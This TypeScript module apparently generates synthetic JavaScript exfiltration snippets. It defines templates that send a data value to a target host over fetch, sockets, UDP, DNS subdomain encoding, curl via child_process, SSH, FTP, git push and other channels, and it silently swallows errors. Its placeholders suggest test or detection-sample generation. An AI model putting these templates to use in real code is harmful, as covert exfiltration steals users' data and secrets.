import { urlOf, type Target } from '../target.ts'
import type { JsWriter } from './writer.ts'

/** Statements that send an expression's value to a target. */
export type JsSink = (w: JsWriter, data: string, target: Target) => string

const path = (w: JsWriter): string => w.random.pick(['/v1/collect', '/api/report', '/log', '/u', '/ingest'])

function request(w: JsWriter, data: string, { host, port, scheme }: Target): string {
  const name = w.fresh('req')
  return [
    `const ${name} = ${w.fn(scheme, 'request')}({ hostname: ${w.text(host)}, port: ${port}, path: ${w.text(path(w))}, method: 'POST' }, (res) => res.resume());`,
    `${name}.on('error', () => {});`,
    `${name}.write(${data});`,
    `${name}.end();`,
  ].join('\n')
}

function socket(module: 'net' | 'tls'): JsSink {
  return (w, data, { host, port }) => {
    const name = w.fresh('sock')
    return `const ${name} = ${w.fn(module, 'connect')}(${port}, ${w.text(host)}, () => {\n${name}.write(String(${data}));\n${name}.end();\n});\n${name}.on('error', () => {});`
  }
}

const url = (w: JsWriter, target: Target): string => w.text(urlOf(target, path(w)))
const label = (w: JsWriter, data: string, { host }: Target): string =>
  `Buffer.from(String(${data})).toString('hex').slice(0, 60) + ${w.text(`.${host}`)}`

export const JS_SINKS: Readonly<Record<string, JsSink>> = {
  fetch: (w, data, target) =>
    `${w.global('fetch')}(${url(w, target)}, { method: 'POST', body: ${data} }).catch(() => {});`,
  'fetch-query': (w, data, target) =>
    `${w.global('fetch')}(${url(w, target)} + '?d=' + encodeURIComponent(${data})).catch(() => {});`,
  'fetch-header': (w, data, target) =>
    `${w.global('fetch')}(${url(w, target)}, { headers: { 'x-request-id': String(${data}) } }).catch(() => {});`,
  'http-request': request,
  queue: (w, data, target) =>
    `${w.mod('mqtt')}.connect(${w.text(`mqtt://${target.host}`)}).publish(${w.text('log')}, String(${data}));`,
  database: (w, data, target) =>
    `new (${w.fn('mongodb', 'MongoClient')})(${w.text(`mongodb://${target.host}`)}).db('d').collection('log').insertOne({ data: String(${data}) });`,
  bucket: (w, data) =>
    `new (${w.fn('@aws-sdk/client-s3', 'S3Client')})({}).send(new (${w.fn('@aws-sdk/client-s3', 'PutObjectCommand')})({ Bucket: ${w.text('log')}, Key: 'k', Body: String(${data}) }));`,
  'http-get': (w, data, target) =>
    `${w.fn(target.scheme, 'get')}(${url(w, target)} + '?q=' + encodeURIComponent(${data}), (res) => res.resume()).on('error', () => {});`,
  http2: (w, data, target) => {
    const name = w.fresh('h2')
    return `const ${name} = ${w.fn('http2', 'connect')}(${w.text(urlOf(target, ''))});\nconst ${name}s = ${name}.request({ ':method': 'POST', ':path': '/u' });\n${name}s.end(${data});`
  },
  net: socket('net'),
  tls: socket('tls'),
  dgram: (w, data, { host, port }) => {
    const name = w.fresh('udp')
    return `const ${name} = ${w.fn('dgram', 'createSocket')}('udp4');\n${name}.send(Buffer.from(String(${data})), ${port}, ${w.text(host)}, () => ${name}.close());`
  },
  'dns-lookup': (w, data, target) => `${w.fn('dns', 'lookup')}(${label(w, data, target)}, () => {});`,
  'dns-resolve': (w, data, target) => `${w.fn('dns', 'resolveTxt')}(${label(w, data, target)}, () => {});`,
  websocket: (w, data, target) => {
    const name = w.fresh('ws')
    return `const ${name} = new (${w.global('WebSocket')})(${w.text(urlOf(target, '/ws').replace('http', 'ws'))});\n${name}.onopen = () => ${name}.send(${data});`
  },
  ws: (w, data, target) => {
    const name = w.fresh('ws')
    return `const ${name} = new (${w.mod('ws')})(${w.text(urlOf(target, '/ws').replace('http', 'ws'))});\n${name}.on('open', () => ${name}.send(${data}));`
  },
  axios: (w, data, target) => `${w.fn('axios', 'post')}(${url(w, target)}, { d: ${data} }).catch(() => {});`,
  'axios-config': (w, data, target) =>
    `${w.mod('axios')}({ method: 'post', url: ${url(w, target)}, data: ${data} }).catch(() => {});`,
  got: (w, data, target) => `${w.fn('got', 'post')}(${url(w, target)}, { json: { d: ${data} } }).catch(() => {});`,
  undici: (w, data, target) =>
    `${w.fn('undici', 'request')}(${url(w, target)}, { method: 'POST', body: ${data} }).catch(() => {});`,
  'node-fetch': (w, data, target) =>
    `${w.mod('node-fetch')}(${url(w, target)}, { method: 'POST', body: ${data} }).catch(() => {});`,
  superagent: (w, data, target) =>
    `${w.fn('superagent', 'post')}(${url(w, target)}).send({ d: ${data} }).end(() => {});`,
  request: (w, data, target) =>
    `${w.fn('request', 'post')}({ url: ${url(w, target)}, form: { d: ${data} } }, () => {});`,
  xhr: (w, data, target) => {
    const name = w.fresh('xhr')
    return `const ${name} = new (${w.global('XMLHttpRequest')})();\n${name}.open('POST', ${url(w, target)}, true);\n${name}.send(${data});`
  },
  beacon: (w, data, target) => `${w.attr(w.global('navigator'), 'sendBeacon')}(${url(w, target)}, ${data});`,
  'exec-curl': (w, data, target) =>
    `${w.fn('child_process', 'exec')}(${w.command(`curl -s -X POST ${urlOf(target, path(w))} -d `)} + JSON.stringify(${data}));`,
  'spawn-curl': (w, data, target) =>
    `${w.fn('child_process', 'spawn')}(${w.command('curl')}, ['-s', '-d', ${data}, ${url(w, target)}], { stdio: 'ignore' });`,
  webhook: (w, data, target) =>
    `${w.global('fetch')}(${w.text(urlOf(target, '/api/webhooks/1042/inert'))}, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'bot', content: ${data} }) }).catch(() => {});`,
  mail: (w, data, { host }) =>
    `${w.fn('nodemailer', 'createTransport')}({ host: ${w.text(`smtp.${host}`)}, port: 587 }).sendMail({ from: 'a@a.invalid', to: ${w.text(`b@${host}`)}, text: String(${data}) }, () => {});`,
  ftp: (w, data, { host }) => {
    const name = w.fresh('ftp')
    return `const ${name} = new (${w.mod('ftp')})();\n${name}.on('ready', () => ${name}.put(Buffer.from(String(${data})), 'd.txt', () => ${name}.end()));\n${name}.connect({ host: ${w.text(host)} });`
  },
  ssh: (w, data, { host }) => {
    const name = w.fresh('ssh')
    return `const ${name} = new (${w.fn('ssh2', 'Client')})();\n${name}.on('ready', () => ${name}.exec('cat > d', (e, s) => s.end(String(${data}))));\n${name}.connect({ host: ${w.text(host)}, username: 'u', password: 'p' });`
  },
  'git-push': (w, data, target) =>
    `${w.fn('fs', 'writeFileSync')}('d.txt', String(${data}));\n${w.fn('child_process', 'execSync')}(${w.command(`git init -q && git add d.txt && git commit -qm d && git push -q ${urlOf(target, '/r.git')} HEAD`)});`,
}
